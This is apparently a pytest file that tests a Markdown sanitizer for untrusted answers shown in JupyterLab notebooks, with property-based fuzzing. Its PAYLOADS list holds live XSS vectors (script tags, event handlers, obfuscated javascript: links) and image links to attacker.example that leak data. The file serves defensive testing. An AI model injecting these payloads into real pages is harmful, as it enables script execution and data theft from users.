"""Untrusted answers become Markdown that renders the same text but runs nothing.

The renderer here is markdown-it-py with raw HTML *enabled*, which is what a trusted
notebook's text/markdown output gets in JupyterLab: whatever HTML survives
``safe_markdown`` would be live there.
"""

from __future__ import annotations

import os
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ipy_stream.safe import is_safe_url, safe_markdown

# Tags that plain Markdown produces; anything else means raw HTML got through.
MARKDOWN_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "code", "pre", "ul", "ol",
    "li", "blockquote", "a", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s",
}  # fmt: skip

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<!-- comment --><b>x</b>",
    "<style>body{display:none}</style>",
    "</p><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](\njavascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://attacker.example/leak?q=secret)",
    "![x][img]\n\n[img]: https://attacker.example/leak",
    "> <img src=x onerror=alert(1)>",
    "- item <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| `x|<img src=x onerror=alert(1)>` | y |",
    "`code` <img src=x onerror=alert(1)> `more`",
    "\\`<img src=x onerror=alert(1)>`",
    "``<img src=x onerror=alert(1)>`",
    "   <div onmouseover=alert(1)>indented html block</div>",
    "<a title='`'><img src=x onerror=alert(1)>`",
    # Found by the property test below: escaping turns an HTML block into a paragraph
    # that then absorbs an indented line, and code spans pair across lines.
    "<script>x</script>\n    <script>window.pwned = 1</script>",
    "`\n`<script>window.pwned = 1</script>`",
    "| `a | b` `<img src=x onerror=alert(1)>` |\n|---|---|",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def rendered_tags(markdown: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def assert_inert(markdown: str) -> None:
    for tag, attrs in rendered_tags(markdown):
        assert tag in MARKDOWN_TAGS, f"raw <{tag}> got through: {markdown!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} got through"
            if name == "href":
                assert is_safe_url(value or ""), f"unsafe link {value!r} is clickable"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_when_persisted(payload: str) -> None:
    assert_inert(safe_markdown(f"Intro text.\n\n{payload}\n\nOutro."))
    assert_inert(safe_markdown(payload))


@pytest.mark.parametrize(
    "payload", ["<script>window.pwned = 1</script>", "<img src=x onerror=alert(1)>"]
)
def test_html_stays_visible_as_text(payload: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).render(safe_markdown(payload))
    assert "&lt;" in html
    assert payload.split(">", maxsplit=1)[0][1:] in html


def test_markdown_and_code_are_kept_exactly() -> None:
    answer = (
        "# Title\n\nSome **bold**, a `<div>` tag, $a_1 < b$ and a [link](https://example.org).\n\n"
        '- one\n- two\n\n```html\n<b onclick="x">code is shown as written</b>\n```\n'
    )
    safe = safe_markdown(answer)
    assert safe == answer
    tags = [tag for tag, _ in rendered_tags(safe)]
    assert tags.count("li") == 2
    assert "h1" in tags
    assert "pre" in tags


def test_unclosed_fence_is_closed_so_later_text_is_not_swallowed() -> None:
    safe = safe_markdown("Intro\n\n```python\nprint(1)\n")
    assert safe.rstrip().endswith("```")
    html = MarkdownIt("commonmark").render(safe + "\n\nfooter")
    assert "<p>footer</p>" in html


def test_unclosed_fence_in_a_list_is_closed_inside_the_item() -> None:
    safe = safe_markdown("- item\n  ```\n  code")
    html = MarkdownIt("commonmark").render(safe + "\n\nfooter")
    assert "<p>footer</p>" in html


@settings(max_examples=int(os.environ.get("IPY_STREAM_FUZZ_EXAMPLES", "300")), deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(PAYLOADS),
            st.sampled_from(["`", "``", "\n", "\n\n", "```", "~~~", "|", "> ", "- ", "    ", "\\"]),
            st.text(max_size=20),
        ),
        max_size=12,
    )
)
def test_any_mix_of_payloads_and_markdown_is_inert(pieces: list[str]) -> None:
    assert_inert(safe_markdown("".join(pieces)))
